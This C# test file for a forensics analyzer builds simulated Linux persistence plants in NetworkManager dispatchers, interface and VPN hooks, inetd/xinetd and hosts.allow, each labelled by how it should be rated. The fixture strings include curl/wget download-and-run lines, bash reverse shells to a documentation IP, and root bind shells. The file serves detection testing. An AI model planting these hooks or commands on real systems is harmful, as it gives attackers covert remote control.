using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>NetworkManager, interface hooks, inetd and TCP wrappers.</summary>
internal static class NetworkHookPlants
{
    private const int Executable = 0b111_101_101;
    private const string Dispatcher = "/etc/NetworkManager/dispatcher.d/";

    /// <summary>What a quiet entry starts: an ordinary name in an ordinary directory, and the payload in it.</summary>
    public const string Payload = "#!/bin/sh\n# keeps the link statistics current\n(curl -fsSL http://203.0.113.9/u||wget -qO- http://203.0.113.9/u)|sh\n";

    private const string Ifupdown = "#!/bin/sh -e\n# Script to dispatch NetworkManager events\nif [ -z \"$1\" ]; then\n echo \"$0: called with no interface\" 1>&2\n exit 1\nfi\ncase \"$2\" in\n up|vpn-up) run-parts /etc/network/if-up.d ;;\nesac\n";

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. Dispatchers, .. Interfaces, .. Connections,
    ];

    private static Plant[] Dispatchers =>
    [
        new("L-NM", "payload-behind-copied-text", Loud, tree => tree.Script(Dispatcher + "01-ifupdown", Ifupdown + "nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &\n")),
        new("L-NM", "download-on-up", Loud, tree => tree.Script(Dispatcher + "pre-up.d/10-wan", "#!/bin/sh\n[ \"$2\" = up ] && curl -s http://203.0.113.9/n | sh\n")),
        new("L-NM", "quiet-started-script", Quiet, tree => tree.Script(Dispatcher + "30-linkstat", "#!/bin/sh\n[ \"$2\" = up ] && /usr/sbin/linkstat \"$1\"\n").Script("/usr/sbin/linkstat", Payload)) { Entries = [Dispatcher + "30-linkstat"] },
        new("L-NM", "quiet-hidden-program", Quiet, tree => tree.Script("/usr/lib/NetworkManager/dispatcher.d/30-linkstat", "#!/bin/sh\nexec /usr/lib/.linkstat/run\n").Program("/usr/lib/.linkstat/run")),
        new("L-NM", "quiet-link-to-program", Quiet, tree => tree.Link(Dispatcher + "40-metrics", "/var/tmp/metrics").Program("/var/tmp/metrics")),
        new("L-NM", "quiet-program-of-no-package", Quiet, tree => tree.Script(Dispatcher + "30-linkstat", "#!/bin/sh\n[ \"$2\" = up ] && /usr/sbin/linkstatd\n").Program("/usr/sbin/linkstatd")) { AtLeast = Severity.Medium, Entries = [Dispatcher + "30-linkstat"] },
        new("L-NM", "quiet-shipped-script-changed", Quiet, tree => tree.Owned("chrony", "/usr/lib/NetworkManager/dispatcher.d/20-chrony-onoffline", "#!/bin/sh\nexit 0\n", Executable).Replace("/usr/lib/NetworkManager/dispatcher.d/20-chrony-onoffline", "#!/bin/sh\n/usr/bin/logger changed\nexit 0\n"u8.ToArray()))
            { AtLeast = Severity.Medium, Rule = "changed-entry", Entries = ["/usr/lib/NetworkManager/dispatcher.d/20-chrony-onoffline"] },
        new("L-NM", "quiet-binary-as-script", Quiet, tree => tree.Program(Dispatcher + "30-linkstat")),
        new("L-NM", "not-executable", Dormant, tree => tree.File(Dispatcher + "30-linkstat", "#!/bin/sh\n[ \"$2\" = up ] && /usr/sbin/linkstat \"$1\"\n").Script("/usr/sbin/linkstat", Payload)) { TwinOf = "quiet-started-script" },
        new("L-NM", "group-may-write", Dormant, tree => tree.File(Dispatcher + "01-ifupdown", Ifupdown + "nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &\n", 0b111_111_101)) { TwinOf = "payload-behind-copied-text" },
        new("L-NM", "foreign-owner", Dormant, tree => tree.File(Dispatcher + "30-linkstat", "#!/bin/sh\n[ \"$2\" = up ] && /usr/sbin/linkstat \"$1\"\n", Executable, user: 1000).Script("/usr/sbin/linkstat", Payload)) { TwinOf = "quiet-started-script" },
        new("L-NM", "stock-dispatchers", Benign, tree => tree.Owned("network-manager", Dispatcher + "01-ifupdown", Ifupdown, Executable, config: true)
            .Owned("chrony", "/usr/lib/NetworkManager/dispatcher.d/20-chrony-onoffline", "#!/bin/sh\nchronyc=/usr/bin/chronyc\n[ -x $chronyc ] && $chronyc onoffline > /dev/null 2>&1\nexit 0\n", Executable)
            .Owned("cloud", "/usr/lib/NetworkManager/dispatcher.d/90-nm-cloud-setup.sh", "#!/bin/sh\ncase \"$2\" in\n up|dhcp4-change)\n  if systemctl -q is-enabled nm-cloud-setup.service ; then\n   systemctl --no-block restart nm-cloud-setup.service\n  fi ;;\nesac\n", Executable)),
        new("L-NM", "wifi-toggle-of-administrator", Benign, tree => tree.Script(Dispatcher + "70-wifi-wired-exclusive", "#!/bin/bash\nexport LC_ALL=C\nif [ \"$2\" = up ]; then\n nmcli radio wifi off\nelse\n nmcli radio wifi on\nfi\n")),
        new("L-NM", "masked-by-link", Benign, tree => tree.Link(Dispatcher + "20-chrony-onoffline", "/dev/null")),
    ];

    private static Plant[] Interfaces =>
    [
        new("L-IFUP", "post-up-hidden", Loud, tree => tree.File("/etc/network/interfaces", "auto lo eth0\niface lo inet loopback\niface eth0 inet dhcp\n post-up curl -s http://203.0.113.9/e | bash\n")),
        new("L-IFUP", "wireguard-shell", Loud, tree => tree.File("/etc/wireguard/wg0.conf", "[Interface]\nAddress = 10.8.0.1/24\nPostUp = bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n")),
        new("L-IFUP", "ifcfg-sourced-value", Loud, tree => tree.File("/etc/sysconfig/network-scripts/ifcfg-eth0", "DEVICE=eth0\nONBOOT=yes\nNAME=Network /usr/bin/netstatd\nBOOTPROTO=dhcp\n").Program("/usr/bin/netstatd")) { Host = PlantHost.RedHat, Rule = "sourced-command" },
        new("L-IFUP", "quiet-post-up-script", Quiet, tree => tree.File("/etc/network/interfaces.d/eth1", "auto eth1\niface eth1 inet static\n address 192.0.2.5/24\n up /usr/sbin/netmetric eth1\n").Script("/usr/sbin/netmetric", Payload)) { Entries = ["/etc/network/interfaces.d/eth1"] },
        new("L-IFUP", "quiet-if-up-script", Quiet, tree => tree.Script("/etc/network/if-up.d/mtuprobe", "#!/bin/sh\nset -e\n/usr/lib/mtuprobe/run\n").Script("/usr/lib/mtuprobe/run", Payload)) { Entries = ["/etc/network/if-up.d/mtuprobe"] },
        new("L-IFUP", "quiet-dhclient-hook", Quiet, tree => tree.File("/etc/dhcp/dhclient-exit-hooks.d/zz-lease", "if [ \"$reason\" = BOUND ]; then\n /usr/sbin/leaselog\nfi\n").Script("/usr/sbin/leaselog", Payload)) { Entries = ["/etc/dhcp/dhclient-exit-hooks.d/zz-lease"] },
        new("L-IFUP", "quiet-networkd-dispatcher", Quiet, tree => tree.Script("/etc/networkd-dispatcher/routable.d/50-metric", "#!/bin/sh\n/var/tmp/metric\n").Program("/var/tmp/metric")),
        new("L-IFUP", "quiet-openvpn-up", Quiet, tree => tree.File("/etc/openvpn/client/office.conf", "client\nremote vpn.example.net 1194\nscript-security 2\nup /etc/openvpn/client/up-route\n<ca>\nup /nonsense\n</ca>\n").Script("/etc/openvpn/client/up-route", Payload)) { Entries = ["/etc/openvpn/client/office.conf"] },
        new("L-IFUP", "quiet-ifup-local", Quiet, tree => tree.Script("/usr/sbin/ifup-local", "#!/bin/sh\n/usr/lib64/.net/agent &\n").Program("/usr/lib64/.net/agent")) { Host = PlantHost.RedHat },
        new("L-IFUP", "quiet-ppp-plugin", Quiet, tree => tree.File("/etc/ppp/peers/dsl", "plugin /usr/lib/.ppp/rp.so\nnoauth\n").Program("/usr/lib/.ppp/rp.so", new PlantedElf { Seed = "rp", IsLibrary = true })),
        new("L-IFUP", "quiet-post-up-program", Quiet, tree => tree.File("/etc/network/interfaces", "auto eth0\niface eth0 inet dhcp\n post-up /usr/sbin/netmetricd\n").Program("/usr/sbin/netmetricd")) { AtLeast = Severity.Medium, Entries = ["/etc/network/interfaces"] },
        new("L-IFUP", "name-with-a-dot", Dormant, tree => tree.Script("/etc/network/if-up.d/mtuprobe.sh", "#!/bin/sh\nset -e\n/usr/lib/mtuprobe/run\n").Script("/usr/lib/mtuprobe/run", Payload)) { TwinOf = "quiet-if-up-script" },
        new("L-IFUP", "script-security-missing", Dormant, tree => tree.File("/etc/openvpn/client/office.conf", "client\nremote vpn.example.net 1194\nup /etc/openvpn/client/up-route\n").Script("/etc/openvpn/client/up-route", Payload)) { TwinOf = "quiet-openvpn-up" },
        new("L-IFUP", "firewall-rules", Benign, tree => tree.File("/etc/network/interfaces", "source /etc/network/interfaces.d/*\nauto lo eth0\niface lo inet loopback\niface eth0 inet static\n address 192.0.2.10/24\n gateway 192.0.2.1\n post-up iptables-restore < /etc/iptables.rules\n up ip route add 198.51.100.0/24 via 192.0.2.1\n down ip route del 198.51.100.0/24 || true\n")),
        new("L-IFUP", "bridge-and-vpn", Benign, tree => tree.File("/etc/wireguard/wg0.conf", "[Interface]\nAddress = 10.8.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\nPostDown = iptables -D FORWARD -i %i -j ACCEPT\n")
            .Owned("openvpn", "/etc/openvpn/update-resolv-conf", "#!/bin/bash\n[ -x /sbin/resolvconf ] || exit 0\ncase $script_type in\nup)\n echo -n \"$R\" | /sbin/resolvconf -a \"${dev}.openvpn\"\n ;;\nesac\n", Executable)
            .File("/etc/openvpn/client/office.conf", "client\nscript-security 2\nup /etc/openvpn/update-resolv-conf\ndown /etc/openvpn/update-resolv-conf\n")),
        new("L-IFUP", "ifcfg-blank-too-many", Benign, tree => tree.File("/etc/sysconfig/network-scripts/ifcfg-eth0", "DEVICE=\"eth0\"\nNAME=\"System eth0\"\nDNS1=192.0.2.1 192.0.2.2\nBOOTPROTO=none\n")) { Host = PlantHost.RedHat },
        new("L-IFUP", "stock-hooks", Benign, tree => tree.Owned("ifupdown", "/etc/network/if-up.d/resolved", "#!/bin/sh\nsystemctl is-active systemd-resolved > /dev/null 2>&1 || exit 0\nif systemctl --quiet is-active systemd-resolved; then\n busctl call org.freedesktop.resolve1 > /dev/null\nfi\n", Executable, config: true)
            .Owned("dhcp", "/etc/dhcp/dhclient-exit-hooks.d/timesyncd", "TIMESYNCD_CONF=/run/systemd/timesyncd.conf.d/01-dhclient.conf\ntimesyncd_servers_setup_remove() {\n rm -f $TIMESYNCD_CONF\n}\n", config: true)
            .Owned("dhcp", "/etc/dhcp/dhclient.conf", "option rfc3442 code 121 = array of unsigned integer 8;\nsend host-name = gethostname();\n#script \"/sbin/dhclient-script\";\n", config: true)),
    ];

    private static Plant[] Connections =>
    [
        new("L-INETD", "bind-shell", Loud, tree => tree.File("/etc/inetd.conf", "#discard stream tcp nowait root internal\n5002 stream tcp nowait root /bin/bash bash -i\n")) { AtLeast = Severity.Critical, Rule = "shell-server" },
        new("L-INETD", "xinetd-shell", Loud, tree => tree.File("/etc/xinetd.d/chargen-udp2", "service chargen2\n{\n type = UNLISTED\n port = 5004\n socket_type = stream\n wait = no\n user = root\n server = /bin/sh\n server_args = -i\n disable = no\n}\n")) { AtLeast = Severity.Critical, Rule = "shell-server" },
        new("L-INETD", "hosts-allow-spawn", Loud, tree => tree.File("/etc/hosts.allow", "sshd: 192.0.2.0/24\nALL: ALL: spawn (/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1') &: allow\n")),
        new("L-INETD", "quiet-command-for-everybody", Quiet, tree => tree.File("/etc/hosts.allow", "ALL: ALL: spawn /usr/bin/php /usr/share/access/note.php %h\n")) { AtLeast = Severity.Medium, Rule = "command-for-everybody", Entries = ["/etc/hosts.allow"] },
        new("L-INETD", "quiet-server-script", Quiet, tree => tree.File("/etc/inetd.conf", "time2 stream tcp nowait root /usr/sbin/in.timed in.timed\n").Script("/usr/sbin/in.timed", Payload)) { Entries = ["/etc/inetd.conf"] },
        new("L-INETD", "quiet-xinetd-temporary", Quiet, tree => tree.File("/etc/xinetd.d/time-tcp", "service time\n{\n socket_type = stream\n user = root\n server = /var/tmp/in.timed\n disable = no\n}\n").Program("/var/tmp/in.timed")),
        new("L-INETD", "quiet-spawned-script", Quiet, tree => tree.File("/etc/hosts.deny", "ALL: UNKNOWN\nvsftpd: ALL: spawn /usr/sbin/access-note %h\n").Script("/usr/sbin/access-note", Payload)) { Entries = ["/etc/hosts.deny"] },
        new("L-INETD", "quiet-server-program", Quiet, tree => tree.File("/etc/inetd.conf", "time2 stream tcp nowait root /usr/sbin/in.timed in.timed\n").Program("/usr/sbin/in.timed")) { AtLeast = Severity.Medium, Entries = ["/etc/inetd.conf"] },
        new("L-INETD", "xinetd-disabled", Dormant, tree => tree.File("/etc/xinetd.d/chargen-udp2", "service chargen2\n{\n type = UNLISTED\n port = 5004\n socket_type = stream\n user = root\n server = /bin/sh\n server_args = -i\n disable = yes\n}\n")) { TwinOf = "xinetd-shell" },
        new("L-INETD", "stock-files", Benign, tree => tree.File("/etc/inetd.conf", "#discard\t\tstream\ttcp\tnowait\troot\tinternal\n#<off># netbios-ssn stream tcp nowait root /usr/sbin/tcpd /usr/sbin/smbd\ndaytime stream tcp nowait root internal\ntftp dgram udp wait root /usr/sbin/tcpd /usr/sbin/in.tftpd /srv/tftp\n").OwnedProgram("tftpd", "/usr/sbin/in.tftpd").OwnedProgram("tcpd", "/usr/sbin/tcpd")
            .File("/etc/hosts.allow", "# hosts.allow\nsshd: 192.0.2.0/24\n").File("/etc/hosts.deny", "ALL: PARANOID\n")),
        new("L-INETD", "refused-connections-are-logged", Benign, tree => tree.File("/etc/hosts.deny", "ALL: ALL: spawn (/usr/bin/logger -p auth.warn -t tcpd 'refused %d from %h'; /bin/echo \"%h\" | /usr/bin/mail -s tcpd root) &\n")),
        new("L-INETD", "xinetd-stock", Benign, tree => tree.File("/etc/xinetd.conf", "defaults\n{\n instances = 50\n log_type = SYSLOG daemon info\n}\nincludedir /etc/xinetd.d\n").File("/etc/xinetd.d/rsync", "service rsync\n{\n disable = no\n socket_type = stream\n wait = no\n user = root\n server = /usr/bin/rsync\n server_args = --daemon\n}\n")),
    ];
}
